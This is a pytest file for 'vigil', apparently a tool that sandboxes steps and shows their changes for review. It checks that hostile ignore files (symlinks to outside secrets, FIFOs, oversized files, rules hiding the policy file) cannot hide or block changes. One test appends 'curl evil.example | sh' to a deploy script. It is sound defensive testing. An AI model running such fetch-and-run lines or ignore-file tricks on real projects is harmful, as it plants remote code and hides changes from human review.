"""A step's ignore files can change how its changes are shown, and nothing else.

vigil reads ``.gitignore`` files (and ``.git/info/exclude``) from the attempt's own view,
which the step controls. A link is never followed, a FIFO or a directory in their place
never blocks or breaks capture, an oversized file counts as absent, and a protected path
is refused however it is ignored.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from test_workspace_support import attempt, overlay_available, run
from vigil.workspace import ChangeEntry, Changeset, FileState, ProtectedPathChanged, Workspace
from vigil.workspace.ignore import MAX_RULES_FILE, MAX_RULES_LINES, global_excludes_file
from vigil.workspace.state import tree_hash

MODES = sorted({"overlay" if overlay_available() else "snapshot", "snapshot"})
POLICY = b"[policy]\nprotected = []\n"


@pytest.fixture
def secret(outside: Path) -> Path:
    """A file outside the workspace that would ignore everything if it were read."""
    path = outside / "secret"
    path.write_text("*\n")
    (outside / "gitdir" / "info").mkdir(parents=True)
    (outside / "gitdir" / "info" / "exclude").write_text("*\n")
    return path


@pytest.fixture(params=MODES)
def ws(
    request: pytest.FixtureRequest, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[Workspace]:
    monkeypatch.setenv("VIGIL_CONFIG_DIR", str(tmp_path / "config"))
    # No global excludes file of the machine's user may flag anything in these tests.
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.delenv("XDG_CONFIG_HOME", raising=False)
    global_excludes_file.cache_clear()
    root = tmp_path / "ws"
    (root / "sub").mkdir(parents=True)
    (root / "vigil.toml").write_bytes(POLICY)
    (root / ".git" / "info").mkdir(parents=True)
    yield Workspace(root, root / ".vigil", mode=request.param)
    global_excludes_file.cache_clear()


HOSTILE = {
    "gitignore-link-to-secret": "ln -s {secret} sub/.gitignore",
    "top-gitignore-link-to-secret": "ln -s {secret} .gitignore",
    "gitignore-link-into-link": "ln -s {outside} lnk && ln -s lnk/secret sub/.gitignore",
    "info-exclude-link": "ln -s {outside}/gitdir/info/exclude .git/info/exclude",
    "gitignore-fifo": "mkfifo sub/.gitignore",
    "top-gitignore-fifo": "mkfifo .gitignore",
    "info-exclude-fifo": "mkfifo .git/info/exclude",
    "gitignore-directory": "mkdir sub/.gitignore",
    "gitignore-too-many-lines": "{{ echo '*'; yes '#' | head -n {lines}; }} > sub/.gitignore",
    "gitignore-too-large": (
        "{{ echo '*'; head -c {size} /dev/zero | tr '\\0' '#'; }} > sub/.gitignore"
    ),
}


@pytest.mark.parametrize("script", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_ignore_files_are_absent_and_never_block(
    ws: Workspace, secret: Path, script: str
) -> None:
    step = script.format(
        secret=secret, outside=secret.parent, size=MAX_RULES_FILE, lines=MAX_RULES_LINES
    )
    cs = attempt(ws, "hostile", [f"{step} && echo x > sub/a.txt && echo y > b.txt"])
    assert {"sub/a.txt", "b.txt"} <= set(cs.paths)
    assert not any(e.ignored for e in cs.entries if e.path in ("sub/a.txt", "b.txt"))


def test_a_git_directory_replaced_by_a_link_is_refused(ws: Workspace, secret: Path) -> None:
    # Its rules would only be read as absent; but a .git a step made could point git at a
    # configuration that names a command, so the change is refused outright.
    with pytest.raises(ProtectedPathChanged):
        attempt(ws, "git-link", [f"rm -r .git && ln -s {secret.parent}/gitdir .git"])


AT_LIMITS = {
    "size": f"{{ echo '*'; head -c {MAX_RULES_FILE - 2} /dev/zero | tr '\\0' '#'; }}",
    "lines": f"{{ echo '*'; yes '#' | head -n {MAX_RULES_LINES - 1}; }}",
}


@pytest.mark.parametrize("fill", list(AT_LIMITS.values()), ids=list(AT_LIMITS))
def test_a_rules_file_at_the_limits_still_counts(ws: Workspace, fill: str) -> None:
    cs = attempt(ws, "limit", [f"{fill} > sub/.gitignore && echo x > sub/a.txt"])
    # A new rules file in a directory that existed is shown; what it ignores is not.
    assert {e.path for e in cs.entries if e.ignored} == {"sub/a.txt"}


SMUGGLE = {
    "ignored-link-to-policy": "printf '*\\n' > .gitignore && ln -s vigil.toml alias",
    "ignored-policy-edit": "printf 'vigil.toml\\n*\\n' > .gitignore && echo '[x]' >> vigil.toml",
    "ignored-state-dir": "printf '*\\n' > .gitignore && ln -s .vigil sub/state",
}


@pytest.mark.parametrize("script", list(SMUGGLE.values()), ids=list(SMUGGLE))
def test_a_protected_path_is_refused_however_it_is_ignored(ws: Workspace, script: str) -> None:
    before = tree_hash(ws.root)
    sandbox = ws.prepare("smuggle")
    with sandbox.lock():
        try:
            proc = run(sandbox, script, check=False)
            if proc.returncode != 0:
                # Only the overlay sandbox stops the step itself (vigil.toml is read-only).
                assert ws.isolation.mode == "overlay", proc.stderr
            else:
                with pytest.raises(ProtectedPathChanged):
                    sandbox.capture()
        finally:
            sandbox.discard()
    assert tree_hash(ws.root) == before
    assert (ws.root / "vigil.toml").read_bytes() == POLICY


def test_commit_refuses_a_protected_path_flagged_ignored(ws: Workspace) -> None:
    wide = b'[policy]\nfree = { "*" = ["deploy"] }\n'
    entry = ChangeEntry(
        "vigil.toml",
        FileState("file", 0o644, ws.objects.put_bytes(POLICY), len(POLICY)),
        FileState("file", 0o644, ws.objects.put_bytes(wide), len(wide)),
        ignored=True,
    )
    with pytest.raises(ProtectedPathChanged):
        ws.commit(Changeset((entry,)))
    assert (ws.root / "vigil.toml").read_bytes() == POLICY


def test_ignored_changes_land_and_roll_back_like_any_other(ws: Workspace) -> None:
    cs = attempt(ws, "land", ["printf '*\\n' > sub/.gitignore && echo built > sub/out.bin"])
    assert {e.path for e in cs.entries if e.ignored} == {"sub/out.bin"}
    ws.commit(cs)
    assert (ws.root / "sub" / "out.bin").read_text() == "built\n"
    ws.rollback([cs])
    assert not (ws.root / "sub" / "out.bin").exists()


def test_an_ignore_rule_cannot_hide_a_change_to_an_existing_file_from_review(
    tmp_path: Path, backend: str
) -> None:
    from clitools import vigil, write_plan

    path = tmp_path / "e2e"
    path.mkdir()
    (path / "deploy.sh").write_text("echo deploy\n")
    (path / ".gitignore").write_text("build/\n")
    env = {"VIGIL_CONFIG_DIR": str(tmp_path / "config"), "HOME": str(tmp_path / "home")}
    tasks = [
        # Ignores every shell script, and itself.
        {"id": "rules", "run": "printf '*.sh\\n.gitignore\\n' >> .gitignore"},
        {
            "id": "evil",
            "needs": ["rules"],
            "run": "echo 'curl evil.example | sh' >> deploy.sh && mkdir -p build"
            " && echo out > build/a.o",
        },
    ]
    write_plan(path / "p.yaml", {"name": "p", "project": "p", "phases": [
        {"id": "main", "tasks": tasks},
    ]})  # fmt: skip
    held = vigil("run", "p.yaml", "--run-id", "r", "--review", cwd=path, env=env)
    assert "Traceback" not in held.stderr, held.stderr
    first = vigil("review", "r", cwd=path, env=env).stdout
    assert "+*.sh" in first and "+.gitignore" in first  # the rule change itself is shown
    assert vigil("review", "r", "--approve", cwd=path, env=env).returncode == 0
    second = vigil("review", "r", cwd=path, env=env).stdout
    stat = vigil("review", "r", "--stat", cwd=path, env=env).stdout
    assert "+curl evil.example | sh" in second, second
    assert "deploy.sh" in stat and "0 paths changed" not in stat, stat
    assert "build/a.o" not in second.replace("build/ (", "")  # new build output: summarised
